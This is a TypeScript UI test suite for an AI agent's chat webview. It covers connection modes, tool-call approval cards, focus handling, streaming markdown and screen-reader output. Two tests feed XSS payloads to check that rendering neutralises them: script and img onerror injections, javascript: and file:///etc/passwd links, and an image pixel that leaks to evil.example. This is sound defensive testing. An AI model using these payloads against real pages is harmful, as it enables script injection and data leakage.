import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ChatItem, ChatOperation, ChatState } from '../../src/protocol/chat.ts';
import { chats, longChat, tool } from './support/states.ts';
import { viewTests } from './support/viewTests.ts';

const chat = viewTests<ChatState, ChatOperation>('chat');
const { open, patch } = chat;
const add = (item: ChatItem) => patch({ op: 'add', item });
const text = (selector: string) => chat.page.locator(selector).innerText();
const focused = () =>
  chat.page.evaluate<string>(
    "document.activeElement.getAttribute('aria-label') ?? document.activeElement.textContent ?? ''",
  );

test('names that others rely on', async () => {
  await open(chats.approval);
  const { page } = chat;
  await page.locator('body[data-view="chat"]').waitFor();
  await page.getByRole('textbox', { name: 'Message' }).waitFor();
  await page.getByRole('button', { name: 'Stop', exact: true }).waitFor();
  await page.getByRole('log', { name: 'Conversation' }).waitFor();
  await page.getByRole('group', { name: 'Tool microsoft_docs_search' }).last().waitFor();
  await patch({ op: 'busy', busy: false });
  await page.getByRole('button', { name: 'Send', exact: true }).waitFor();
});

test('each mode says what it is', async () => {
  await open(chats.welcome);
  assert.match(await text('header'), /Not connected/);
  await patch({ op: 'mode', mode: { kind: 'connecting', step: 'Waiting for you to sign in' } });
  assert.match(await text('header'), /Connecting\s+Waiting for you to sign in/);
  await patch({ op: 'mode', mode: { kind: 'connected', agent: 'research-agent', user: 'ana@contoso.example' } });
  assert.match(await text('header'), /Connected\s+research-agent\s+for ana@contoso.example/);
  await patch({ op: 'mode', mode: { kind: 'sandbox', agent: 'a', user: 'u' } });
  assert.match(await text('header'), /SANDBOX/);
  await patch({ op: 'mode', mode: { kind: 'apiKey', model: 'gpt-4.1-mini' } });
  assert.match(await text('header'), /API key\s+gpt-4.1-mini\s+no agent identity/);
});

test('with nothing connected, three ways to begin', async () => {
  await open(chats.welcome);
  for (const name of ['Connect to a Cluster', 'Start the Sandbox', 'Use an API Key'])
    await chat.page.getByRole('button', { name }).click();
  assert.deepEqual(await chat.posted(), [
    { type: 'runAction', id: 'agentId.connect' },
    { type: 'runAction', id: 'agentId.startSandbox' },
    { type: 'runAction', id: 'agentId.setApiKey' },
  ]);
  await chat.page.getByRole('textbox', { name: 'Message' }).fill('too early');
  await chat.page.keyboard.press('Enter');
  assert.deepEqual(await chat.posted(), [], 'nobody is there to send it to');
});

test('suggested prompts are one tab stop, arrow keys choose, Enter sends', async () => {
  await open(chats.empty);
  await chat.page.locator('.prompt').first().focus();
  await chat.page.keyboard.press('ArrowDown');
  await chat.page.keyboard.press('Enter');
  assert.deepEqual(await chat.posted(), [{ type: 'send', text: chats.empty.prompts[1] }]);
  assert.equal(await chat.page.locator('.prompt[tabindex="0"]').count(), 1);
});

test('Enter sends, Shift+Enter breaks the line, a composition is left alone', async () => {
  await open(chats.empty);
  const box = chat.page.getByRole('textbox', { name: 'Message' });
  await box.click();
  await chat.page.keyboard.type('one');
  await chat.page.keyboard.press('Shift+Enter');
  await chat.page.keyboard.type('two');
  await box.dispatchEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true });
  assert.deepEqual(await chat.posted(), []);
  await chat.page.keyboard.press('Enter');
  assert.deepEqual(await chat.posted(), [{ type: 'send', text: 'one\ntwo' }]);
  assert.equal(await box.inputValue(), '');
});

test('a message that is too long is not cut but refused, with the reason', async () => {
  await open(chats.empty);
  await chat.page.getByRole('textbox', { name: 'Message' }).fill('x'.repeat(64_010));
  assert.equal(await text('.problem'), 'Too long by 10 characters.');
  assert.equal(await chat.page.getByRole('button', { name: 'Send', exact: true }).isDisabled(), true);
});

test('while busy there is Stop, by button and by Escape', async () => {
  await open(chats.running);
  await chat.page.getByRole('button', { name: 'Stop', exact: true }).click();
  await chat.page.keyboard.press('Escape');
  assert.deepEqual(await chat.posted(), [{ type: 'stop' }, { type: 'stop' }]);
  await patch({ op: 'busy', busy: false });
  assert.equal(await focused(), 'Message', 'the focus of the button that went away');
});

test('an answer grows in place: what is settled stays the same element', async () => {
  await open(chats.empty);
  await add({ kind: 'assistant', id: 'a', text: 'First paragraph.\n\nSec', status: 'streaming' });
  await patch({ op: 'append', id: 'a', text: 'ond\nthird' });
  await chat.page.evaluate("document.querySelector('.markdown p').dataset.same = 'yes'");
  const rest = '\n\n```js\nconst a = 1;\n```\n\n- [x](https://example.org)\n';
  for (const piece of rest) await patch({ op: 'append', id: 'a', text: piece });
  await patch({
    op: 'update',
    item: { kind: 'assistant', id: 'a', text: `First paragraph.\n\nSecond\nthird${rest}`, status: 'done' },
  });
  assert.equal(await chat.page.locator('.markdown p[data-same]').count(), 1);
  assert.equal(await chat.page.locator('.markdown > p').count(), 2);
  assert.equal(await chat.page.locator('.hljs-keyword').innerText(), 'const');
});

test('a link that is defined after its use still becomes one when the answer is done', async () => {
  await open(chats.empty);
  const item = { kind: 'assistant', id: 'a', text: 'See [docs].\n\nMore.\n\n', status: 'streaming' } as const;
  await add(item);
  await patch({ op: 'update', item: { ...item, text: `${item.text}[docs]: https://example.org/d\n`, status: 'done' } });
  assert.equal(await chat.page.locator('.markdown a').getAttribute('href'), 'https://example.org/d');
});

test('hostile markdown stays text', async () => {
  await open(chats.empty);
  await chat.page.evaluate('globalThis.pwned = false');
  await add({
    kind: 'assistant',
    id: 'a',
    status: 'done',
    text: [
      '<img src=x onerror="globalThis.pwned=true"><script>globalThis.pwned=true</script>',
      '![pixel](https://evil.example/?leak=1)',
      '[click](javascript:globalThis.pwned=true) [cmd](command:workbench.action.quit) [file](file:///etc/passwd)',
      '[data](data:text/html,<script>1</script>) <javascript:1> [http](http://evil.example)',
      '<a href="https://evil.example" onclick="globalThis.pwned=true">a</a><iframe src="https://evil.example"></iframe>',
      '```"><script>globalThis.pwned=true</script>\n</code></pre><script>globalThis.pwned=true</script>\n```',
      '| a |\n|---|\n| <svg onload=globalThis.pwned=true> |',
      '```js\nlet s = "</span><img src=x onerror=globalThis.pwned=true>";\n```',
      '<form action="https://evil.example"><input name="q"><style>*{display:none}</style>',
      'safe\u202egnp.exe\u202c and \u{e0041}hidden\u0007',
    ].join('\n\n'),
  });
  const found = 'script, img, iframe, svg:not(.icon), form, input, style, [onerror], [onclick], [onload], [style]';
  assert.equal(await chat.page.locator('.markdown').locator(found).count(), 0);
  const links = await chat.page.evaluate<string[]>(
    "[...document.querySelectorAll('.markdown a')].map(link => link.getAttribute('href'))",
  );
  assert.equal(links[0], 'https://evil.example/?leak=1', 'a picture is at most a link, which the person has to press');
  assert.ok(links.every(href => href.startsWith('https://')));
  assert.match(await text('.markdown'), /safe‹U\+202E›gnp\.exe‹U\+202C› and ‹U\+E0041›hidden‹U\+0007›/);
  assert.equal(await chat.page.evaluate('globalThis.pwned'), false);
});

test('hostile tool names, arguments, results and notices stay text', async () => {
  await open(chats.empty);
  const attack = '<img src=x onerror="globalThis.pwned=true">\u202e';
  await add(
    tool('x', {
      name: attack,
      server: attack,
      target: attack,
      arguments: attack,
      result: attack,
      identity: attack,
      receipt: { id: attack, traceparent: attack },
      status: 'error',
      failure: {
        sentence: attack,
        nextStep: attack,
        who: 'clusterAdmin',
        fix: attack,
        actions: [{ id: 'agentId.showLog', label: attack }],
      },
    }),
  );
  await add({ kind: 'user', id: 'u', text: attack });
  await add({ kind: 'notice', id: 'n', level: 'error', failure: { sentence: attack, actions: [] } });
  await chat.page.locator('.tool-line').click();
  assert.equal(await chat.page.locator('img').count(), 0);
  assert.equal((await chat.page.content()).includes('\u202e'), false);
  assert.equal(await chat.page.evaluate('globalThis.pwned'), undefined);
});

test('a fix for somebody else can be read, and is copied as it reads', async () => {
  await open(chats.handOver);
  const notice = chat.page.locator('.notice').first();
  assert.match(await notice.innerText(), /An Entra admin can fix this\./);
  await notice.getByText('The fix in full').click();
  const shown = await notice.locator('pre').innerText();
  await notice.getByRole('button', { name: 'Copy for the Entra Admin' }).click();
  await notice.getByRole('button', { name: 'Copied' }).waitFor();
  assert.match(shown, /"scope": "access_as_user"/);
  assert.deepEqual(await chat.posted(), [{ type: 'copy', text: shown }]);
  assert.match(await chat.page.locator('.notice').last().innerText(), /You can fix this\.$/);
});

test('a link goes to the host and the page stays where it is', async () => {
  await open(chats.conversation);
  const link = chat.page.getByRole('link', { name: 'Workload identity' });
  await link.click();
  await link.click({ button: 'middle' });
  await link.focus();
  await chat.page.keyboard.press('Enter');
  const message = { type: 'openLink', href: 'https://learn.microsoft.com/entra/workload-id/' };
  assert.deepEqual(await chat.posted(), [message, message, message]);
  assert.equal(chat.page.url(), 'https://webview.test/');
});

test('code is copied through the host', async () => {
  await open(chats.conversation);
  await chat.page.getByRole('button', { name: 'Copy Code' }).click();
  const [message] = (await chat.posted()) as { type: string; text: string }[];
  assert.equal(message?.type, 'copy');
  assert.match(message.text, /^apiVersion: v1\nkind: ServiceAccount\n/);
});

test('a call that waits takes the focus, on the card, and gives it back after the answers', async () => {
  await open(chats.empty);
  await chat.page.getByRole('textbox', { name: 'Message' }).focus();
  await patch(
    { op: 'busy', busy: true },
    { op: 'add', item: tool('a', { name: 'first', status: 'waiting' }) },
    { op: 'add', item: tool('b', { name: 'second', status: 'waiting' }) },
  );
  assert.equal(await focused(), 'Tool first');
  await chat.page.keyboard.press('Enter');
  assert.deepEqual(await chat.posted(), [], 'a key pressed a moment too late allows nothing');
  const card = chat.page.getByRole('group', { name: 'Tool first' });
  await card.getByRole('button', { name: 'Allow Once' }).focus();
  await chat.page.keyboard.press('Enter');
  assert.deepEqual(await chat.posted(), [{ type: 'approve', callId: 'call-a', decision: 'once' }]);
  await patch({ op: 'update', item: tool('a', { name: 'first', status: 'running' }) });
  assert.equal(await focused(), 'Tool second');
  await chat.page.getByRole('group', { name: 'Tool second' }).getByRole('button', { name: 'Reject…' }).press('Enter');
  await chat.page.keyboard.type('not this one');
  await chat.page.keyboard.press('Enter');
  assert.deepEqual(await chat.posted(), [
    { type: 'approve', callId: 'call-b', decision: 'reject', reason: 'not this one' },
  ]);
  await patch({ op: 'update', item: tool('b', { name: 'second', status: 'rejected' }) });
  assert.equal(await focused(), 'Message');
});

test('in a low view the first call that waits is shown, then the next, then the end', async () => {
  await open(longChat(3), { width: 320, height: 380 });
  const inView = (name: string) =>
    chat.page.evaluate<boolean>(`(() => {
      const rect = document.querySelector('[aria-label="Tool ${name}"] .primary').getBoundingClientRect();
      const box = document.querySelector('[role=log]').getBoundingClientRect();
      return rect.top >= box.top && rect.bottom <= box.bottom;
    })()`);
  await patch(
    { op: 'add', item: tool('a', { name: 'first', status: 'waiting', receipt: undefined }) },
    { op: 'add', item: tool('b', { name: 'second', status: 'waiting', receipt: undefined }) },
  );
  assert.deepEqual([await inView('first'), await inView('second')], [true, false]);
  const pill = chat.page.getByRole('button', { name: 'Jump to Latest' });
  assert.equal(await pill.isVisible(), false, 'nothing lies over the answers');
  const allow = (name: string) =>
    chat.page
      .getByRole('group', { name: `Tool ${name}` })
      .getByRole('button', { name: 'Allow Once' })
      .click();
  await allow('first');
  await patch({ op: 'update', item: tool('a', { name: 'first', status: 'running' }) });
  assert.equal(await inView('second'), true);
  await allow('second');
  await patch({ op: 'update', item: tool('b', { name: 'second', status: 'running' }) });
  await add({ kind: 'assistant', id: 'z', text: 'more\n\n'.repeat(20), status: 'done' });
  const rest = await chat.page.evaluate<number>(
    "(box => box.scrollHeight - box.scrollTop - box.clientHeight)(document.querySelector('[role=log]'))",
  );
  assert.ok(rest < 2, 'follows the end again');
});

test('a person who is writing keeps the focus', async () => {
  await open(chats.empty);
  await chat.page.getByRole('textbox', { name: 'Message' }).click();
  await chat.page.keyboard.type('I am wri');
  await add(tool('a', { status: 'waiting' }));
  assert.equal(await focused(), 'Message');
});

test('Escape in the reason goes back to the choices and does not stop the turn', async () => {
  await open(chats.approval);
  const card = chat.page.getByRole('group', { name: 'Tool web_search_exa' }).last();
  await card.getByRole('button', { name: 'Reject…' }).click();
  await chat.page.keyboard.press('Escape');
  assert.deepEqual(await chat.posted(), []);
  assert.equal(await focused(), 'Reject…');
  await card.getByRole('button', { name: 'Allow in This Session' }).click();
  assert.deepEqual(await chat.posted(), [{ type: 'approve', callId: 'call-t4', decision: 'session' }]);
});

test('a card shows arguments, result and receipt when it is opened, and the reason of a refusal always', async () => {
  await open(chats.refused);
  const denied = chat.page.getByRole('group', { name: 'Tool microsoft_code_sample_search' });
  assert.match(await denied.innerText(), /Denied by policy[\s\S]*jwt\.appid is not[\s\S]*Choose an agent/);
  await denied.getByRole('button', { name: 'Select Agent' }).click();
  assert.deepEqual(await chat.posted(), [{ type: 'runAction', id: 'agentId.selectAgent' }]);
  await denied.locator('.tool-line').press('Enter');
  await denied.getByRole('group', { name: 'Arguments' }).waitFor();
  await denied.getByRole('button', { name: 'Copy traceparent' }).click();
  assert.match(JSON.stringify(await chat.posted()), /00-4bf92f35/);
});

test('the end stays in view only for a reader who is there', async () => {
  await open(longChat(30));
  const log = chat.page.getByRole('log');
  const top = () => chat.page.evaluate<number>("document.querySelector('[role=log]').scrollTop");
  const fromEnd = () =>
    chat.page.evaluate<number>(
      "(box => box.scrollHeight - box.scrollTop - box.clientHeight)(document.querySelector('[role=log]'))",
    );
  await add({ kind: 'assistant', id: 'a', text: 'new\n\n'.repeat(40), status: 'streaming' });
  assert.ok((await fromEnd()) < 2, 'follows');
  await log.hover();
  await chat.page.mouse.wheel(0, -600);
  await chat.page.getByRole('button', { name: 'Jump to Latest' }).waitFor();
  const before = await top();
  await patch({ op: 'append', id: 'a', text: 'more\n\n'.repeat(40) });
  assert.equal(await top(), before, 'does not move');
  await chat.page.getByRole('button', { name: 'Jump to Latest' }).click();
  assert.ok((await fromEnd()) < 2, 'jumps');
  await patch({ op: 'append', id: 'a', text: 'more\n\n'.repeat(40) });
  assert.ok((await fromEnd()) < 2, 'follows again');
});

test('away from the end, the pill calls for an approval and leads to it', async () => {
  await open(longChat(10));
  await chat.page.getByRole('log').hover();
  await chat.page.mouse.wheel(0, -900);
  await chat.page.getByRole('button', { name: 'Jump to Latest' }).waitFor();
  await add(tool('a', { status: 'waiting', name: 'first' }));
  await chat.page.getByRole('button', { name: 'Approval Needed' }).click();
  assert.equal(await focused(), 'Tool first');
});

test('a gap asks for a snapshot, once, and the snapshot mends it', async () => {
  await open(chats.empty);
  await chat.send({ type: 'patch', seq: 2, operations: [{ op: 'busy', busy: true }] });
  await chat.send({ type: 'patch', seq: 3, operations: [{ op: 'busy', busy: true }] });
  assert.deepEqual(await chat.posted(), [{ type: 'needSnapshot' }]);
  await chat.send({ type: 'snapshot', seq: 3, state: chats.running });
  await chat.page.getByRole('button', { name: 'Stop', exact: true }).waitFor();
});

test('messages that are not ours change nothing', async () => {
  await open(chats.conversation);
  const before = await chat.page.locator('main').innerHTML();
  await chat.send('x', null, { type: 'snapshot', seq: 0 }, { type: 'patch', seq: 1, operations: [{ op: 'html' }] });
  assert.equal(await chat.page.locator('main').innerHTML(), before);
});

test('the draft and the place survive the view', async () => {
  await open(longChat(30));
  await chat.page.getByRole('textbox', { name: 'Message' }).fill('half a thought');
  await chat.page.getByRole('log').hover();
  await chat.page.mouse.wheel(0, -5000);
  const reading = () =>
    chat.page.evaluate<string>(
      "document.elementFromPoint(200, 80).closest('[data-id]')?.dataset.id ?? document.elementFromPoint(200, 80).outerHTML",
    );
  await chat.page.waitForFunction("(sessionStorage.getItem('state') ?? '').includes('anchor')");
  const before = await reading();
  const kept = await chat.saved();
  assert.equal(kept.includes('Answer'), false, 'nothing of the conversation is kept by the editor');
  await chat.page.reload();
  await chat.theme('dark');
  await chat.send({ type: 'snapshot', seq: 0, state: longChat(30) });
  assert.equal(await reading(), before);
  assert.equal(await chat.page.getByRole('textbox', { name: 'Message' }).inputValue(), 'half a thought');
});

test('a screen reader hears finished parts, not tokens, and nothing of the past', async () => {
  await open(chats.conversation);
  const spoken = () => chat.page.locator('[role=status]').innerText();
  assert.equal(await spoken(), '');
  await add({ kind: 'assistant', id: 'n', text: 'One', status: 'streaming' });
  for (const piece of [' two', ' three.\n', '\nFour', ' five\n']) await patch({ op: 'append', id: 'n', text: piece });
  assert.equal(await spoken(), 'One two three.');
  await patch({
    op: 'update',
    item: { kind: 'assistant', id: 'n', text: 'One two three.\n\nFour five\n', status: 'done' },
  });
  assert.match(await spoken(), /^One two three\.\s+Four five$/);
  await add(tool('w', { name: 'writer', status: 'waiting' }));
  assert.match(await text('.screen-reader-only [role=alert]'), /Tool writer waits for your approval/);
});

test('the sentences come from the page in the person’s language', async () => {
  await open(chats.welcome, { strings: { 'Not connected': 'Nicht verbunden', Message: 'Nachricht' } });
  assert.match(await text('header'), /Nicht verbunden/);
  await chat.page.getByRole('textbox', { name: 'Nachricht' }).waitFor();
});
